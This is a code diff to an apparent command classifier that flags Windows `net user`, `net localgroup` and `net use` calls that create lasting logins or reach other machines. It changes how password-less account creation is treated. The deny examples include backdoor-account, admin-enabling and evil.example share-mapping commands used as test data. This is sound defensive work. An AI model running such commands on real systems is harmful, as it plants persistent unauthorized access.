@@ -25,7 +25,8 @@ function flag(w: Word | undefined): string | undefined {
 export const PRIVILEGED_GROUPS = /^(?:administrators|remote desktop users|remote management users|backup operators|hyper-v administrators|docker-users|power users)$/i;
 
 /**
- * `net user NAME PASS /add`, `net user NAME /active:yes`, `net user NAME PASS` (a password set), and `net localgroup
+ * `net user NAME PASS /add`, `net user NAME /active:yes`, `net user NAME PASS` (a password set; an account added with no
+ * password has no login), and `net localgroup
  * GROUP NAME /add` to a privileged group (a computed group may be one): a login or rights that last.
  */
 function accountChange(call: Call): Partial<Answer> | undefined {
@@ -35,7 +36,9 @@ function accountChange(call: Call): Partial<Answer> | undefined {
   const operands = rest.filter((w) => !(flag(w) ?? '').startsWith('-'));
   const at = call.args[0]!;
   if (sub === 'user' || sub === 'users') {
-    if (switches.includes('-add') || switches.some((v) => /^-active(?::yes)?$/.test(v)) || operands.length >= 2) return { persists: [{ word: at, why: 'net user makes an account, turns one on or sets its password: a login that lasts' }] };
+    // A password given (`NAME PASS`, `NAME *`), with /add or without: a login; /active:yes turns one on. An account
+    // added with no password has no login, as useradd's without -p.
+    if (switches.some((v) => /^-active(?::yes)?$/.test(v)) || operands.length >= 2) return { persists: [{ word: at, why: 'net user makes an account with a password, turns one on or sets its password: a login that lasts' }] };
   }
   if ((sub === 'localgroup' || sub === 'group') && switches.includes('-add') && operands[0] !== undefined) {
     const group = value(operands[0]);
@@ -312,7 +315,7 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       if (sub !== 'use' && sub !== 'view' && sub !== 'session' && sub !== 'time') return { offline: `net ${sub ?? ''} is local` };
       return remoteWhen(call, call.args.slice(1), `${sub} names no other machine`);
     },
-    examples: { deny: [ps('net use Z: \\\\evil.example\\share'), ps('net view \\\\evil.example'), ps('net user backdoor P4ss! /add'), ps('net user Administrator /active:yes'), ps('net localgroup administrators backdoor /add'), ps('net user dev NewP4ss')], pass: [ps('net user'), ps('net use'), ps('net user dev'), ps('net localgroup'), ps('net localgroup administrators'), ps('net localgroup docs dev /add')] },
+    examples: { deny: [ps('net use Z: \\\\evil.example\\share'), ps('net view \\\\evil.example'), ps('net user backdoor P4ss! /add'), ps('net user Administrator /active:yes'), ps('net localgroup administrators backdoor /add'), ps('net user dev NewP4ss')], pass: [ps('net user'), ps('net use'), ps('net user dev'), ps('net localgroup'), ps('net localgroup administrators'), ps('net localgroup docs dev /add'), ps('net user ci /add')] },
   },
   {
     names: ['regedit', 'regedt32'],
